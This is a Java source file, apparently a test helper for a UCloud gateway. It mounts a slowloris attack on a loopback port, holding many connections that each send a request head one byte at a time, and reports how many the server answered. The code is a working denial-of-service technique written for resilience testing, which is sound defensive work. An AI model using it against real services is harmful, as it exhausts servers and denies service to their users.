import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Run as a local user who is not the gateway: keeps {@code count} connections to a loopback port (an instance's, or
 * IM/Server's own API) open for {@code seconds}, each sending the start of a request head one byte at a time (a
 * slowloris), and opens a new one for each the server closes. Prints "OPENED" once the first round is out, then
 * "MADE n ANSWERED m": the connections made in all and how many of them ever received a byte from the server.
 */
public class InstanceFlood {
    private static final byte[] HEAD = "POST /ucloud/slurm/files/browse HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\nX-Slow: "
            .getBytes(StandardCharsets.US_ASCII);

    public static void main(String[] args) throws Exception {
        var target = new InetSocketAddress("127.0.0.1", Integer.parseInt(args[0]));
        int count = Integer.parseInt(args[1]);
        long end = System.nanoTime() + Long.parseLong(args[2]) * 1_000_000_000L;
        List<SocketChannel> held = new ArrayList<>();
        List<Integer> sent = new ArrayList<>();
        long made = 0;
        long answered = 0;
        for (int i = 0; i < count; i++, made++) {
            held.add(open(target));
            sent.add(0);
        }
        System.out.println("OPENED");
        System.out.flush();
        ByteBuffer probe = ByteBuffer.allocate(64);
        while (System.nanoTime() < end) {
            for (int i = 0; i < held.size(); i++) {
                SocketChannel channel = held.get(i);
                probe.clear();
                int read;
                try {
                    read = channel.read(probe);
                    if (read == 0) {
                        int at = sent.get(i) % HEAD.length;
                        channel.write(ByteBuffer.wrap(HEAD, at, 1));
                        sent.set(i, at + 1);
                    }
                } catch (IOException e) {
                    read = -1;
                }
                if (read > 0) {
                    answered++;
                }
                if (read != 0) {
                    channel.close();
                    held.set(i, open(target));
                    sent.set(i, 0);
                    made++;
                }
            }
            Thread.sleep(20);
        }
        System.out.println("MADE " + made + " ANSWERED " + answered);
    }

    private static SocketChannel open(InetSocketAddress target) throws IOException {
        SocketChannel channel = SocketChannel.open(target);
        channel.configureBlocking(false);
        return channel;
    }
}
